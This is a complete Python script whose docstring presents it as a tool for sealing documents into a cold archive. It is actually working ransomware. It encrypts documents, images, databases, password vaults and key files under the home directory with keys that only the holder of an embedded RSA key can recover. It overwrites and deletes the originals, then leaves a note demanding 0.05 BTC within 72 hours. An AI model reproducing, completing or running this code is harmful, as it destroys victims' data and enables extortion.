#!/usr/bin/env python3
"""Seal user documents into the cold archive format (.sealed).

Each file is encrypted with its own AES-256-GCM key; the key is wrapped
with the archive service's RSA public key, so only the archive service can
unseal.  The plaintext is overwritten and removed after sealing.
"""
import argparse
import logging
import os
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ARCHIVE_PUBKEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEApJGmWxc7anPg5RpQyunf
RGkf6UJwpkRNeEuZYLEEWqhn+nPz23XgSPVQEB4vKVdnFMTbqjMNWC272O/qIGMX
SaEamWCbh3/D1pLQqXWg+eFyXDfh4+s6DuxoZRvOlV7x87K+RpQPbjXSxn/LqFDz
wPpHoJMZKenmS3vSlK1libwoTargQRUDN/5ORPxj5/qU6O2C97PjwmPwh43ZbOHG
nUM4JDfTvpLJJ2A/sQV8dVpP5N0WXlDHwJ/IbvqKOT919n++iwIxTikV9abQYAuJ
k9YTtHPR/Pg7HcDuWGo5q+eIx6RE+YYtci8Dxvs4l9UTL2rXuf8/5e7dPCc7jTZG
ywIDAQAB
-----END PUBLIC KEY-----"""
SUFFIXES = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".odt", ".ods", ".jpg", ".png",
            ".csv", ".sql", ".sqlite", ".zip", ".psd", ".txt", ".md", ".kdbx", ".pem"}
SKIP_DIRS = {".cache", "node_modules", ".venv", ".git", "snap", ".local"}
NOTE_NAME = "HOW_TO_UNSEAL_YOUR_FILES.txt"
NOTE = """Your documents have been sealed with RSA-2048 + AES-256.
Nothing is lost, but only we hold the key that unseals them.
Send 0.05 BTC to bc1q9h6tq8w3v0xx4m2ksd0l4r5a7jq6k3m8yzsw0e and mail
your machine id ({machine}) to unseal-desk@proton.me within 72 hours.
"""
log = logging.getLogger("sealer")


class Sealer:
    def __init__(self):
        self.pub = serialization.load_pem_public_key(ARCHIVE_PUBKEY)

    def seal(self, path: Path) -> bool:
        try:
            plain = path.read_bytes()
        except OSError:
            return False
        key = AESGCM.generate_key(bit_length=256)
        nonce = os.urandom(12)
        wrapped = self.pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                     algorithm=hashes.SHA256(), label=None))
        blob = len(wrapped).to_bytes(2, "big") + wrapped + nonce + AESGCM(key).encrypt(nonce, plain, None)
        path.with_name(path.name + ".sealed").write_bytes(blob)
        self._destroy(path, len(plain))
        return True

    @staticmethod
    def _destroy(path: Path, size: int) -> None:
        with open(path, "r+b", buffering=0) as fh:
            fh.write(os.urandom(size))
            os.fsync(fh.fileno())
        path.unlink()


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in SUFFIXES and not p.is_symlink():
                    yield p


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    home = Path.home()
    roots = args.roots or [home / d for d in ("Documents", "Desktop", "Pictures", "Downloads")] + [home]
    sealer = Sealer()
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        sealed = sum(pool.map(sealer.seal, candidates(r for r in roots if r.exists())))
    machine = Path("/etc/machine-id").read_text().strip() if Path("/etc/machine-id").exists() else "n/a"
    for place in (home, home / "Desktop"):
        if place.is_dir():
            (place / NOTE_NAME).write_text(NOTE.format(machine=machine))
    log.warning("sealed %d files", sealed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
